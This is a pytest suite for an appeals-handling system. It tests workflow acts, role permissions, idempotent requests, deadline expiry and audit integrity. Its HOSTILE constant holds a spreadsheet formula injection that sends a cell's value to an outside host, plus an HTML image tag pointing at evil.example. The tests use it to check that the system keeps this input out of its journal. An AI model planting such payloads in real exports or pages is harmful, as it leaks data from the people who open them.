# SPDX-License-Identifier: Apache-2.0
"""Whole lives of appeals through the services, on every database: acts, retries, roles, what runs out, what stays."""

import json
import random
from contextlib import suppress
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest

from frontdesk.domain import kinds, life
from frontdesk.errors import Refused
from frontdesk.seal.notes import Vkey
from frontdesk.seal.outside import verify_bundles

FRIDAY = date(2026, 4, 24)
HOSTILE = '=HYPERLINK("http://x/?"&A1)\n<img src="//evil.example/a.png"> Іздеуші'
TEXTS = {"why": "Қолы қойылмаған", "decider": "Омаров Д.", "position": "chief"}


def refusal(act: Any, *arguments: Any, **named: Any) -> list[str]:
    with pytest.raises(Refused) as caught:
        act(*arguments, **named)
    return [f"{problem.field or '-'}:{problem.code}" for problem in caught.value.problems]


def data_of(office: Any, kind: str) -> dict[str, Any]:
    found: dict[str, Any] = [event for event in office.events() if event["type"] == kind][-1]["data"]
    return found


def show(office: Any, number: str) -> Any:
    return office.desk.lookup.show(office.clerk, number, request=office.request())


def outside(office: Any) -> Any:
    files = [Path(day.file) for day in office.desk.days.list() if day.file]
    return verify_bundles(files, Vkey.parse(office.desk.facts.public_key))


# --- each act leaves what it should


def test_an_application_is_completed_extended_and_answered_late_against_its_first_date(office):
    work, clerk, supervisor = office.desk.workflow, office.clerk, office.supervisor
    number = office.register(kind="application").number
    work.assign(supervisor, number, to="clerk", request="1")
    work.needs_fix(clerk, number, until=FRIDAY + timedelta(days=4), why=HOSTILE, request="2")
    assert show(office, number).status == "needs_fix"
    office.close_day()
    office.at("2026-05-20T10:00")
    until = date(2026, 6, 19)
    work.extend(supervisor, number, until=until, decided=office.today, request="3", **TEXTS)
    assert data_of(office, "appeal.extended") == {
        "until": "2026-06-19", "first": "2026-05-20", "decided": "2026-05-20", "position": "chief",
        "notice_by": "2026-05-25",
    }  # fmt: skip
    office.close_day()
    office.at("2026-06-03T10:00")
    work.assign(supervisor, number, to="clerk2", request="4")
    office.close_day()
    shown = show(office, number)
    assert (shown.status, shown.first_due, shown.due, shown.extended) == ("extended", date(2026, 5, 20), until, True)
    assert (shown.assignee.login, shown.fix_until, shown.overdue_days) == ("clerk2", date(2026, 4, 28), 0)
    assert [line.personal for line in shown.history if line.type == "appeal.needs_fix"] == [{"why": HOSTILE}]
    before = data_of(office, "day.close")
    assert (before["overdue_open"], before["overdue_first"]) == (0, 1)
    office.at("2026-06-05T10:00")
    work.answer(
        office.who("clerk2"), number, result="answered", channel="post", language="kk", document="3/1", request="5"
    )
    office.close_day()
    closed = data_of(office, "day.close")
    assert (closed["done_late"], closed["done_late_first"], closed["overdue_first"]) == (0, 1, 0)
    verdict = outside(office)
    assert (verdict.ok, verdict.faults) == (True, ())
    assert office.desk.audit.verify().ok
    assert HOSTILE.split("\n", maxsplit=1)[0] not in json.dumps(office.events(), ensure_ascii=False)


def test_ends_of_every_sort_stop_the_clock_and_a_stranger_counts_the_same(office):
    work, clerk, supervisor = office.desk.workflow, office.clerk, office.supervisor
    numbers = {code: office.register(kind=code).number for code in kinds.KIND_CODES if code != "crime_report"}
    crime = office.register(kind="message", crime_information=True).number
    void = office.register(kind="message").number
    work.forward(clerk, numbers["complaint"], to="Департамент", notified=FRIDAY, part=False, request="1")
    work.forward(clerk, numbers["application"], to="Әкімдік", notified=FRIDAY, part=True, request="2")
    work.give_back(supervisor, numbers["message"], ground="obscene", why="Былапыт сөздер", request="3")
    work.withdraw(clerk, numbers["proposal"], statement=FRIDAY, request="4")
    work.stop(supervisor, numbers["response"], ground="author_unknown", decided=FRIDAY, decider="Омаров", request="5")
    work.hand_over(clerk, crime, to="Кезекші Асанов", request="6")
    office.desk.corrections.void(clerk, void, why="Екі рет тіркелді", approver=supervisor, request="7")
    statuses = {number: show(office, number).status for number in (*numbers.values(), crime, void)}
    assert list(statuses.values()) == [
        "registered", "forwarded", "returned", "registered", "withdrawn", "stopped", "registered", "handed_to_duty",
        "voided",
    ]  # fmt: skip
    assert show(office, numbers["complaint"]).route == "forward_to_higher"
    assert show(office, numbers["application"]).route == "considered_here"
    assert data_of(office, "appeal.stopped")["notice_by"] == "2026-04-29"
    office.close_day()
    closed = data_of(office, "day.close")
    assert (closed["voids"], closed["corrections"]) == (1, 0)
    assert closed["acts"] == {
        "forwarded": 2, "returned": 1, "withdrawn": 1, "stopped": 1, "handed_to_duty": 1, "voided": 1,
    }  # fmt: skip
    office.at("2026-05-20T10:00")
    office.arrive()
    office.close_day()
    closed = data_of(office, "day.close")
    # Of what was due today the application and the other request are open; returned, withdrawn and stopped are done.
    assert (closed["due_today_open"], closed["due_today_done"], closed["overdue_open"]) == (2, 4, 1)
    assert outside(office).faults == ()
    assert office.desk.audit.verify().ok


def test_crime_information_goes_to_the_duty_unit_with_its_entry(office):
    work, clerk = office.desk.workflow, office.clerk
    number = office.register(kind="application", crime_information=True).number
    assert work.offered(clerk, number).acts[0].code == "hand_over"
    assert refusal(work.give_back, office.supervisor, number, ground="obscene", why="x", request="1") == [
        "number:crime_not_stopped"
    ]
    work.hand_over(clerk, number, to="Кезекші Асанов", request="2")
    office.at("2026-04-24T23:41")
    work.hand_over(clerk, number, to="Асанов", kui_number="262010030001234", kui_at=office.clock.moment, request="3")
    kui = show(office, number).kui
    assert (kui.number, kui.erdr_by - kui.at) == ("262010030001234", timedelta(hours=24))
    again = {"to": "Асанов", "kui_number": "99", "request": "4"}
    assert refusal(work.hand_over, clerk, number, **again) == ["number:kui_recorded"]
    report = office.register(kind="crime_report")
    assert (report.status, report.due, report.number) == ("handed_to_duty", None, "KLS-K-2026-000001")
    work.hand_over(clerk, report.number, to="Асанов", kui_number="5", request="5")
    different = {"to": "Асанов", "kui_number": "6", "kui_at": office.clock.moment, "request": "6"}
    assert refusal(work.hand_over, clerk, report.number, **different) == ["kui_number:kui_recorded"]
    assert office.desk.audit.verify().ok


def test_a_repeat_is_linked_and_what_comes_again_goes_to_the_old_file(office):
    work, clerk, supervisor = office.desk.workflow, office.clerk, office.supervisor
    first, second, third = (office.register(kind="message").number for _ in range(3))
    for number in (second, third):
        work.link(clerk, number, to=first, request=office.request())
    assert refusal(work.link, supervisor, third, to=first, how="old_file", request="1") == ["how:old_file_first_return"]
    work.give_back(supervisor, second, ground="repeat", why="Дәл сондай", request="2")
    assert refusal(work.link, clerk, third, to=first, how="old_file", request="3") == ["-:not_allowed"]
    work.link(supervisor, third, to=first, how="old_file", request="4")
    assert show(office, third).status == "stopped"
    assert (show(office, first).repeats, show(office, third).linked_to) == ((second, third), first)
    for to, code in (
        (third, "to:link_not_earlier"),
        (first, "to:link_not_earlier"),
        ("KLS-2026-999999", "to:number_unknown"),
    ):
        assert refusal(work.link, clerk, first, to=to, request=office.request()) == [code]
    assert office.desk.audit.verify().ok


# --- who may


def test_who_considers_what(office):
    work, clerk, supervisor = office.desk.workflow, office.clerk, office.supervisor
    other = office.who("clerk2")
    number = office.register(kind="complaint", against=f"инспектор {clerk.surname} {clerk.given}").number
    assert refusal(work.assign, supervisor, number, to="clerk", request="1") == ["to:assignee_accused"]
    answer = {"result": "rejected", "channel": "post", "language": "kk", "document": "1"}
    assert refusal(work.answer, clerk, number, request="2", **answer) == ["number:assignee_accused"]
    assert not {"answer", "assign"} & {act.code for act in work.offered(clerk, number).acts}
    assert [one.login for one in work.assignees(supervisor, number)] == ["clerk2", "supervisor"]
    for login, code in (("admin", "to:assignee_role"), ("auditor", "to:assignee_role"), ("nobody", "to:login_unknown")):
        assert refusal(work.assign, supervisor, number, to=login, request=office.request()) == [code]
    work.assign(other, number, to="clerk2", request="3")
    assert refusal(work.assign, clerk, number, to="clerk", request="4") == ["number:assignee_accused"]
    plain = office.register(kind="application").number
    work.assign(supervisor, plain, to="clerk2", request="5")
    answer["result"] = "answered"
    assert refusal(work.answer, clerk, plain, request="6", **answer) == ["number:not_yours"]
    assert {act.code for act in work.offered(clerk, plain).acts} == {"correct", "void"}
    assert work.offered(office.who("auditor"), plain).acts == ()
    work.answer(other, plain, request="7", **answer)


def test_the_assignee_can_be_named_at_the_counter(office):
    clerk, supervisor = office.clerk, office.supervisor
    size = office.size
    about = {"against": f"{clerk.surname} {clerk.given[0]}."}
    for more, code in (
        ({"assignee": "nobody"}, "assignee:login_unknown"),
        ({"assignee": "auditor"}, "assignee:assignee_role"),
        ({"assignee": "clerk2"}, "assignee:not_allowed"),
        ({"assignee": "clerk", **about}, "assignee:assignee_accused"),
        ({"kind": "crime_report", "assignee": "clerk"}, "assignee:act_not_for_kind"),
    ):
        assert refusal(office.register, **more) == [code]
    assert office.size == size
    mine = office.register(kind="application", assignee="clerk", request_id="once")
    assert (show(office, mine.number).assignee.login, show(office, mine.number).status) == ("clerk", "in_work")
    assert office.register(kind="application", assignee="clerk", request_id="once").repeated
    theirs = office.register(by=supervisor, assignee="clerk2", **about).number
    assert show(office, theirs).assignee.login == "clerk2"
    assert office.desk.audit.verify().ok


def test_a_clerk_neither_extends_nor_returns_nor_stops(sqlite_office):
    work, clerk = sqlite_office.desk.workflow, sqlite_office.clerk
    number = sqlite_office.register(kind="application").number
    until = FRIDAY + timedelta(days=40)
    assert refusal(work.extend, clerk, number, until=until, decided=FRIDAY, request="1", **TEXTS) == ["-:not_allowed"]
    assert refusal(work.give_back, clerk, number, ground="repeat", why="x", request="2") == ["-:not_allowed"]
    stop = {"ground": "withdrawn", "decided": FRIDAY, "decider": "О", "request": "3"}
    assert refusal(work.stop, clerk, number, **stop) == ["-:not_allowed"]
    offered = {act.code for act in work.offered(clerk, number).acts}
    assert offered == {"assign", "answer", "forward", "needs_fix", "withdraw", "link", "correct", "void"}
    assert {"extend", "return", "stop"} < {act.code for act in work.offered(sqlite_office.supervisor, number).acts}


# --- the same again, something else again, nonsense


def acts_of(office: Any) -> dict[str, tuple[Any, dict[str, Any], dict[str, Any]]]:
    """Every act: the call, and what would make it another one."""
    work, later = office.desk.workflow, FRIDAY + timedelta(days=40)
    text = {"why": "Себебі"}
    return {
        "assign": (work.assign, {"to": "clerk"}, {"to": "clerk2"}),
        "needs_fix": (work.needs_fix, {"until": FRIDAY + timedelta(days=4), **text}, {"why": "Басқа"}),
        "extend": (work.extend, {"until": later, "decided": FRIDAY, **TEXTS}, {"decider": "Асанов"}),
        "forward": (work.forward, {"to": "Әкімдік", "notified": FRIDAY, "part": False}, {"part": True}),
        "return": (work.give_back, {"ground": "repeat", **text}, {"ground": "obscene"}),
        "withdraw": (work.withdraw, {"statement": FRIDAY}, {"statement": FRIDAY - timedelta(days=1)}),
        "stop": (work.stop, {"ground": "withdrawn", "decided": FRIDAY, "decider": "О"}, {"decider": "А"}),
        "answer": (
            work.answer,
            {"result": "answered", "channel": "post", "language": "kk", "document": "1"},
            {"document": "2"},
        ),
    }


@pytest.mark.parametrize("code", ["assign", "needs_fix", "extend", "forward", "return", "withdraw", "stop", "answer"])
def test_the_same_request_does_it_once_and_another_one_is_refused(sqlite_office, code):
    call, values, other = acts_of(sqlite_office)[code]
    number = sqlite_office.register(kind="application").number
    by = sqlite_office.supervisor
    call(by, number, request="once", **values)
    size = sqlite_office.size
    call(by, number, request="once", **values)
    assert sqlite_office.size == size
    assert refusal(call, by, number, request="once", **{**values, **other}) == ["request_id:request_id_reused"]
    elsewhere = sqlite_office.register(kind="application").number
    assert refusal(call, by, elsewhere, request="once", **values) == ["request_id:request_id_reused"]
    assert refusal(call, by, "KLS-2026-999999", request="none", **values) == ["number:number_unknown"]
    if code not in {"assign", "needs_fix", "extend"}:
        assert refusal(call, by, number, request="twice", **values) == ["number:appeal_final"]
    assert sqlite_office.desk.audit.verify().ok


@pytest.mark.parametrize(
    ("text", "code"),
    [("", "required"), ("   ", "required"), ("x" * 2001, "text_too_long"), ("а\u202eб", "text_bidi"),
     ("а\0б", "text_control_characters"), ("\ud800", "text_unreadable"), ("\U0001f600", "glyph_missing")],
)  # fmt: skip
def test_a_reason_that_cannot_stand_is_refused_before_anything_happens(sqlite_office, text, code):
    number = sqlite_office.register(kind="application").number
    size = sqlite_office.size
    values = {"until": FRIDAY + timedelta(days=4), "why": text, "request": "1"}
    assert refusal(sqlite_office.desk.workflow.needs_fix, sqlite_office.clerk, number, **values) == [f"why:{code}"]
    assert sqlite_office.size == size


def test_a_refused_act_leaves_no_trace_and_an_act_opens_its_day(sqlite_office):
    number = sqlite_office.register(kind="complaint").number
    sqlite_office.close_day()
    sqlite_office.at("2026-04-25T10:00")
    size = sqlite_office.size
    values = {"until": FRIDAY + timedelta(days=40), "decided": FRIDAY, "request": "1", **TEXTS}
    assert refusal(sqlite_office.desk.workflow.extend, sqlite_office.supervisor, number, **values) == [
        "until:extension_not_allowed"
    ]
    assert (sqlite_office.size, sqlite_office.desk.days.open_day()) == (size, None)
    sqlite_office.desk.workflow.assign(sqlite_office.supervisor, number, to="clerk2", request="2")
    assert sqlite_office.desk.days.open_day() == date(2026, 4, 25)
    assert sqlite_office.desk.audit.verify().ok


# --- what runs out


def test_a_term_that_ran_out_while_the_program_was_closed_is_deemed_refused(office):
    late = office.register(kind="application")
    office.register(kind="complaint")
    office.close_day()
    office.desk.close()
    office.at("2026-05-21T00:00:00.500")
    office.reopen()
    assert late.due == date(2026, 5, 20)
    assert [office.desk.workflow.expire() for _ in range(2)] == [1, 0]
    event = office.events()[-1]
    assert (event["type"], event["actor"], event["number"]) == ("appeal.deemed_refused", "system", late.number)
    assert event["data"] == {"due": "2026-05-20", "expired_at": "2026-05-21T00:00:00.000+05:00"}
    assert event["at"] == "2026-05-21T00:00:00.500+05:00"
    shown = show(office, late.number)
    assert (shown.status, shown.deemed_at.isoformat()) == ("registered", "2026-05-20T19:00:00+00:00")
    # Late, but not barred: the office still owes its answer, and the day is neither opened nor closed by this.
    assert office.desk.days.open_day() is None
    office.desk.workflow.answer(
        office.clerk, late.number, result="answered", channel="post", language="kk", document="1", request="a"
    )
    office.close_day()
    closed = data_of(office, "day.close")
    assert (closed["acts"], closed["done_late"]) == ({"deemed_refused": 1, "answered": 1}, 1)
    assert outside(office).faults == ()
    assert office.desk.audit.verify().ok


def test_on_the_day_due_nothing_has_run_out_yet(sqlite_office):
    sqlite_office.register(kind="application")
    sqlite_office.at("2026-05-20T23:59:59.999")
    assert sqlite_office.desk.workflow.expire() == 0
    sqlite_office.at("2026-05-21T00:00")
    assert sqlite_office.desk.workflow.expire() == 1


def test_an_extended_term_runs_out_at_its_new_end_and_what_has_ended_never_does(office):
    work = office.desk.workflow
    extended, answered, void = (office.register(kind="application").number for _ in range(3))
    work.extend(office.supervisor, extended, until=date(2026, 6, 19), decided=FRIDAY, request="1", **TEXTS)
    work.withdraw(office.clerk, answered, statement=FRIDAY, request="2")
    office.desk.corrections.void(office.clerk, void, why="Қате", approver=office.supervisor, request="3")
    office.at("2026-06-19T18:00")
    assert work.expire() == 0
    office.at("2026-06-20T10:00")
    assert work.expire() == 1
    assert data_of(office, "appeal.deemed_refused")["due"] == "2026-06-19"


def test_many_run_out_in_batches(sqlite_office, monkeypatch):
    monkeypatch.setattr("frontdesk.services.workflow.BATCH", 2)
    for _ in range(5):
        sqlite_office.register(kind="application")
    sqlite_office.at("2026-06-01T10:00")
    assert sqlite_office.desk.workflow.expire() == 5
    assert sqlite_office.types().count("appeal.deemed_refused") == 5


def test_nothing_is_deemed_by_a_clock_that_is_in_doubt(make_office):
    office = make_office("sqlite-wal", training=False)
    clerk = office.who("omarov")
    office.register(kind="application", by=clerk)
    office.at("2027-06-01T10:00")
    assert office.desk.workflow.expire() == 0
    assert "appeal.deemed_refused" not in office.types()
    assert "clock.alarm" in office.types()


def test_a_due_date_that_somebody_typed_into_the_database_refuses_nobody(office):
    number = office.register(kind="application").number
    with office.sql() as connection:
        connection.exec_driver_sql("UPDATE appeal SET due = '2026-01-05'")
    assert office.desk.workflow.expire() == 0
    faults = office.desk.audit.verify().faults
    assert {(fault.table, fault.row, fault.column) for fault in faults} >= {("appeal", number, "due")}


# --- offered and done agree


@pytest.mark.parametrize("kind", [kind.code for kind in kinds.KINDS if kind.code != "crime_report"])
def test_what_is_offered_can_be_done_with_what_is_proposed(sqlite_office, kind):
    """Each act on an appeal of its own, with the values that the program proposes."""
    work, by = sqlite_office.desk.workflow, sqlite_office.supervisor
    earlier = sqlite_office.register(kind=kind).number
    methods = {"return": "give_back"}
    for act in work.offered(by, sqlite_office.register(kind=kind).number).acts:
        if act.code in {"correct", "void"}:
            continue
        number = sqlite_office.register(kind=kind).number
        offer = next(one for one in work.offered(by, number).acts if one.code == act.code)
        given: dict[str, Any] = {
            "to": "clerk2" if act.code == "assign" else "Әкімдік",
            "part": False,
            "kui_number": None,
        }
        given |= {"kui_at": None, "language": "kk", "document": "1", "why": "Себебі", "decider": "Омаров"}
        given |= {name: codes[0] for name, codes in offer.choices.items()} | dict(offer.proposals)
        given |= {"to": earlier} if act.code == "link" else {}
        call = getattr(work, methods.get(act.code, act.code))
        call(by, number, request=sqlite_office.request(), **{name: given[name] for name in offer.fields})
    assert sqlite_office.desk.audit.verify().ok


def test_nothing_is_offered_for_a_voided_record(sqlite_office):
    number = sqlite_office.register(kind="application").number
    sqlite_office.desk.corrections.void(
        sqlite_office.clerk, number, why="Қате", approver=sqlite_office.supervisor, request="1"
    )
    assert sqlite_office.desk.workflow.offered(sqlite_office.supervisor, number).acts == ()
    assert show(sqlite_office, number).status == life.VOIDED


@pytest.mark.parametrize("seed", range(4))
def test_whatever_happens_in_whatever_order_the_books_agree(sqlite_office, seed):
    """Random acts over weeks, days closed and forgotten, the calendar changed: the journal, its rows and a stranger."""
    office, dice = sqlite_office, random.Random(seed)
    desk, supervisor = office.desk, office.supervisor
    numbers: list[str] = []
    for _ in range(120):
        lot = dice.random()
        if lot < 0.3 or not numbers:
            kind = dice.choice([code for code in kinds.KIND_CODES if code != "crime_report"])
            crime = dice.random() < 0.15
            numbers.append(office.register(kind=kind, crime_information=crime, against="инспектор").number)
        elif lot < 0.42:
            office.later(days=dice.randint(1, 9))
            desk.workflow.expire()
        elif lot < 0.46 and desk.days.open_day():
            office.close_day()
        elif lot < 0.5:
            day = office.today + timedelta(days=dice.randint(5, 20))
            with suppress(Refused):
                desk.calendar_book.add(supervisor, day, dice.choice(("off", "working")), "№1", request=office.request())
        else:
            _random_act(office, dice, dice.choice(numbers), numbers[0])
    if desk.days.open_day():
        office.close_day()
    assert desk.audit.verify().faults == ()
    assert outside(office).faults == ()


def _random_act(office: Any, dice: random.Random, number: str, earlier: str) -> None:
    desk, by, request = office.desk, office.supervisor, office.request()
    offers = desk.workflow.offered(by, number).acts
    if not offers:
        return
    offer = dice.choice(offers)
    if offer.code == "void":
        desk.corrections.void(office.clerk, number, why="Қате", approver=by, request=request)
        return
    if offer.code == "correct":
        wanted = {"kind": dice.choice(["application", "message", "complaint", "request_401v"])}
        with suppress(Refused):
            desk.corrections.correct(office.clerk, number, set=wanted, why="Қате", approver=by, request=request)
        return
    given: dict[str, Any] = {"to": "clerk2" if offer.code == "assign" else "Әкімдік", "part": dice.random() < 0.3}
    given |= {
        "kui_number": None,
        "kui_at": None,
        "language": "kk",
        "document": "1",
        "why": "Себебі",
        "decider": "Омаров",
    }
    given |= {name: dice.choice(codes) for name, codes in offer.choices.items()} | dict(offer.proposals)
    given |= {"to": earlier} if offer.code == "link" else {}
    call = getattr(desk.workflow, {"return": "give_back"}.get(offer.code, offer.code))
    with suppress(Refused):  # a link to itself, an old file without a returned repeat
        call(by, number, request=request, **{name: given[name] for name in offer.fields})
